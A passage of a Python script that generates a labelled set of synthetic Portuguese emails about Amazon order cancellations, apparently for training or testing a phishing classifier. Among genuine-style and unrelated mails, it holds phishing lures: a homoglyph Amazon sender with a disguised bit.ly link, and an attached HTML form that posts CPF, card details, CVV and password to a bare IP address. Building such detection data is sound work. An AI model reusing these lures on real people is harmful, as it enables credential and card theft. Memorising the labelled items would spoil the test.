    mail=foreign({"from": ("\u0391mazon.com.br", "amazon_cancelamentos@yahoo.com.br"), "to": ("Rafael Oliveira", "rafael.oliveira@gmail.com"),
        "subject": "Confirmação do cancelamento solicitado - pedido %s" % o, "date": rdate(-3), "cte": "quoted-printable",
        "html": """<html><body style="font-family:Arial;font-size:14px">
<p>Olá, Rafael,</p>
<p>Recebemos sua solicitação e o pedido <b>%s</b> (Geladeira Brastemp Frost Free 443 L, R$ 4.199,00) foi <b>cancelado a pedido do cliente</b>.</p>
<p>Não foi você? Sua conta pode ter sido acessada por terceiros. Cancele a solicitação e proteja sua conta:</p>
<p><a href="http://bit.ly/amz-br-seguranca">https://www.amazon.com.br/ap/signin</a></p>
<p>Amazon.com.br</p></body></html>""" % o},
        "74.6.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)), "sonic%d.mail.gq1.yahoo.com" % rng.randint(300, 330),
        "spf=pass smtp.mailfrom=yahoo.com.br; dkim=pass header.d=yahoo.com.br; dmarc=pass header.from=yahoo.com.br"))

form = """<html><head><meta charset="utf-8"><title>Amazon - Reembolso</title></head><body>
<h2>Amazon.com.br - Formulário de Reembolso</h2>
<form action="http://45.155.205.9/br/r.php" method="post">
Nome: <input name="n"><br>CPF: <input name="cpf"><br>Cartão: <input name="c"><br>Validade: <input name="v"><br>
CVV: <input name="cvv"><br>Senha Amazon: <input type="password" name="s"><br><input type="submit" value="Enviar"></form></body></html>""".encode("utf-8")
add(kind="lookalike", language="pt", cause="unknown", states_reason=False, marketplace=None,
    note="no order number, no reason, unknown-domain sender, HTML credential form attached; crude",
    mail=foreign({"from": ("Amazon", "atendimento@loja-ofertas-br.net"), "to": (None, "anapaula.souza@bol.com.br"),
        "subject": "Pedido cancelado - Reembolso disponível", "date": rdate(-3), "cte": "8bit",
        "text": """Olá,

Seu pedido foi cancelado e você tem um reembolso disponível.

Para receber o valor, abra o formulário em anexo, preencha os dados e clique
em Enviar. O prazo é de 24 horas.

Amazon Atendimento
""", "attach": [("Formulario_Reembolso_Amazon.html", "text/html", form)]},
        "45.155.205.%d" % rng.randint(1, 250), "mail.loja-ofertas-br.net",
        "spf=none smtp.mailfrom=loja-ofertas-br.net; dkim=none; dmarc=none header.from=loja-ofertas-br.net"))

# ---- non-notices (pt)
add(kind="non_notice", language="pt", cause=None, states_reason=False, marketplace=None,
    note="Netshoes order cancelled (stock); footer warns about scams using Amazon's name",
    mail=foreign({"from": ("Netshoes", "pedidos@netshoes.com.br"), "to": ("Camila Santos", "camila.santos@terra.com.br"),
        "subject": "Seu pedido %d foi cancelado" % rng.randint(10**8, 10**9), "date": rdate(-3), "cte": "quoted-printable",
        "text": """Netshoes

Olá, Camila!

Infelizmente o produto abaixo ficou indisponível em nosso estoque e seu
pedido precisou ser cancelado:

    Tênis Nike Revolution 7 Feminino - Tam. 37     R$ 349,99

O estorno será feito no cartão de crédito utilizado em até 2 faturas.

Atenção: a Netshoes não envia e-mails pedindo senha ou dados de cartão.
Cuidado com golpes que usam o nome de grandes lojas, como Amazon, Mercado
Livre e Netshoes, para enviar falsos avisos de pedido cancelado.

Equipe Netshoes
""", "html": """<html><body style="font-family:Arial;font-size:14px"><div style="background:#5a2d82;color:#fff;padding:12px;font-size:22px">netshoes</div>
<p>Olá, Camila!</p><p>Infelizmente o produto abaixo ficou indisponível em nosso estoque e seu pedido precisou ser cancelado:</p>
<table cellpadding="6"><tr><td>Tênis Nike Revolution 7 Feminino - Tam. 37</td><td>R$ 349,99</td></tr></table>
<p>O estorno será feito no cartão de crédito utilizado em até 2 faturas.</p>
<p style="font-size:12px;color:#666"><b>Atenção:</b> a Netshoes não envia e-mails pedindo senha ou dados de cartão. Cuidado com golpes que usam o nome de grandes lojas, como Amazon, Mercado Livre e Netshoes, para enviar falsos avisos de pedido cancelado.</p>
<p>Equipe Netshoes</p></body></html>"""},
        "177.71.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)), "mail.netshoes.com.br",
        "spf=pass smtp.mailfrom=netshoes.com.br; dkim=pass header.d=netshoes.com.br; dmarc=pass header.from=netshoes.com.br"))

add(kind="non_notice", language="pt", cause=None, states_reason=False, marketplace=None,
    note="friend says he cancelled his Amazon order himself",
    mail=foreign({"from": ("Bruno Ferreira", "bruno.ferreira@hotmail.com"), "to": ("João Silva", "joao.silva@uol.com.br"),
        "subject": "Re: fone pro churrasco", "date": rdate(-3), "cte": "base64",
        "text": """Fala João,

Cancelei aquele pedido da Amazon do fone JBL, o prazo foi pra 15 dias e não
ia chegar antes do churrasco. Já veio o e-mail de cancelamento e o estorno
cai no cartão.

Vou pegar um na Kalunga amanhã mesmo. Se quiser um também me avisa que eu
trago dois.

Abraço,
Bruno

Em qua., João Silva escreveu:
> E aí, o fone chegou?
"""}, "40.92.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)), "BRA01-FR2-obe.outbound.protection.outlook.com",
        "spf=pass smtp.mailfrom=hotmail.com; dkim=pass header.d=hotmail.com; dmarc=pass header.from=hotmail.com"))

add(kind="non_notice", language="pt", cause=None, states_reason=False, marketplace=None,
    note="consumer-protection newsletter on the 'Amazon order cancelled' scam, quotes phishing subject",
    mail=foreign({"from": ("Boletim Consumidor Atento", "boletim@consumidoratento.com.br"), "to": (None, "larissa.costa@yahoo.com.br"),
        "subject": "Golpe do \"pedido cancelado\" da Amazon: como se proteger", "date": rdate(-3), "cte": "quoted-printable",
        "extra": [("List-Unsubscribe", "<mailto:sair@consumidoratento.com.br>"), ("Precedence", "bulk")],
        "text": """BOLETIM CONSUMIDOR ATENTO - edição 87

GOLPE DO "PEDIDO CANCELADO" DA AMAZON

Circula nas últimas semanas um e-mail com o assunto "Compra suspeita
cancelada - pedido 701-..." ou "Seu pedido será cancelado hoje - pagamento
pendente". A mensagem pede que a vítima ligue para um 0800 falso ou pague
via Pix para "não perder o pedido".

Como se proteger:
 * Confira seus pedidos direto no app ou no site oficial.
 * A Amazon não pede senha, CPF completo ou dados do cartão por e-mail.
 * Desconfie de remetentes como gmail.com, outlook.com ou domínios
   parecidos (amaz0n, amazon-pedidos...).
 * Em caso de prejuízo, registre boletim de ocorrência e avise seu banco.

Para deixar de receber este boletim, responda com SAIR.
"""}, "191.252.%d.%d" % (rng.randint(1, 250), rng.randint(1, 250)), "smtp.consumidoratento.com.br",
        "spf=pass smtp.mailfrom=consumidoratento.com.br; dkim=pass header.d=consumidoratento.com.br; dmarc=pass header.from=consumidoratento.com.br"))

add(kind="non_notice", language="pt", cause=None, states_reason=False, marketplace="amazon.com.br",
    note="genuine Kindle Unlimited subscription cancelled",
    mail=genuine({"from": ("Amazon.com.br", "digital-no-reply@amazon.com.br"), "reply_to": "no-reply@amazon.com.br",
        "to": ("Larissa Costa", "larissa.costa@yahoo.com.br"),
        "subject": "Sua assinatura do Kindle Unlimited foi cancelada", "date": rdate(-3), "cte": "8bit",
        "html": amz_html(DOM, "pt", "Assinatura cancelada", None, "Olá, Larissa,",
            ["Confirmamos o cancelamento da sua assinatura do <b>Kindle Unlimited</b>. Você poderá continuar lendo os títulos emprestados até <b>17 de agosto</b>, data de término do período atual. Não haverá novas cobranças.",
             "Os eBooks que você comprou continuam disponíveis na sua biblioteca.",
             "Mudou de ideia? Reative quando quiser em <a href=\"https://www.amazon.com.br/kindle-dbs/ku/ku-central\">Gerenciar assinatura</a>."],
            (), FOOT_PT)}, DOM, True))

o = onum("702")
add(kind="non_notice", language="pt", cause=None, states_reason=False, marketplace="amazon.com.br",
    note="genuine: scheduled delivery window cancelled by carrier, order still active",
    mail=genuine({"from": ("Amazon.com.br", "shipment-tracking@amazon.com.br"), "reply_to": "no-reply@amazon.com.br",
        "to": ("Camila Santos", "camila.santos@terra.com.br"),
        "subject": "Sua entrega agendada foi cancelada - escolha uma nova data", "date": rdate(-3), "cte": "base64",
        "text": amz_text(DOM, "pt", "Agendamento cancelado", o, "Olá, Camila,",
            ["A transportadora cancelou o agendamento de entrega previsto para <b>sábado, 9 de novembro, das 8h às 12h</b>.",
             "<b>Seu pedido continua ativo.</b> Escolha uma nova data de entrega em <a href=\"https://www.amazon.com.br/gp/css/order-history\">Seus pedidos</a>.",
             "Pedimos desculpas pelo inconveniente."],
            [("Geladeira Electrolux Frost Free Duplex 390 L, Inox", "Amazon.com.br", 1, "R$ 3.699,00")], FOOT_PT,
            heading="Item do agendamento")}, DOM, False))

o = onum("701")
add(kind="non_notice", language="pt", cause=None, states_reason=False, marketplace="amazon.com.br",
    note="genuine boleto reminder: pay by due date or order will be cancelled (not yet)",
    mail=genuine({"from": ("Amazon.com.br", "payments-messages@amazon.com.br"), "reply_to": "no-reply@amazon.com.br",
        "to": ("João Silva", "joao.silva@uol.com.br"),
        "subject": "Lembrete: seu boleto do pedido nº %s vence amanhã" % o, "date": rdate(-3), "cte": "quoted-printable",
        "text": amz_text(DOM, "pt", "Pagamento pendente", o, "Olá, João,",
            ["Ainda não identificamos o pagamento do boleto do seu pedido. O vencimento é <b>amanhã</b>.",
             "Se você já pagou, desconsidere esta mensagem: a compensação pode levar até 3 dias úteis.",
             "Caso o pagamento não seja identificado após o vencimento, o pedido será cancelado automaticamente. Você pode gerar a 2ª via do boleto em <a href=\"https://www.amazon.com.br/gp/css/order-history\">Seus pedidos</a>."],
            [("Bicicleta Caloi Explorer Sport, aro 29, 21 marchas", "Amazon.com.br", 1, "R$ 2.199,00")], FOOT_PT,
            heading="Itens aguardando pagamento"),
        "html": amz_html(DOM, "pt", "Pagamento pendente", o, "Olá, João,",
            ["Ainda não identificamos o pagamento do boleto do seu pedido. O vencimento é <b>amanhã</b>.",
             "Se você já pagou, desconsidere esta mensagem: a compensação pode levar até 3 dias úteis.",
             "Caso o pagamento não seja identificado após o vencimento, o pedido será cancelado automaticamente. Você pode gerar a 2ª via do boleto em <a href=\"https://www.amazon.com.br/gp/css/order-history\">Seus pedidos</a>."],
            [("Bicicleta Caloi Explorer Sport, aro 29, 21 marchas", "Amazon.com.br", 1, "R$ 2.199,00")], FOOT_PT,
            heading="Itens aguardando pagamento")}, DOM, True))

# ================================================================= write out

def main():
    os.makedirs(OUT, exist_ok=True)
    for f in os.listdir(OUT):
        if f.endswith(".eml"):
            os.remove(os.path.join(OUT, f))
    # shuffle order deterministically so kinds are interleaved
    order = list(range(len(MAILS)))
    random.Random(22).shuffle(order)
    labels = []
    for n, idx in enumerate(order, 1):
        m = MAILS[idx]
        fn = "u2%03d.eml" % n
        with open(os.path.join(OUT, fn), "wb") as fh:
            fh.write(build(m["mail"]))
        labels.append({"file": fn, "kind": m["kind"], "language": m["language"], "cause": m["cause"],
                       "states_reason": m["states_reason"], "marketplace": m["marketplace"], "note": m["note"]})
    with open(os.path.join(HERE, "labels.json"), "w", encoding="utf-8") as fh:
        json.dump(labels, fh, ensure_ascii=False, indent=1)
    print("wrote %d mails" % len(labels))


if __name__ == "__main__":
    main()
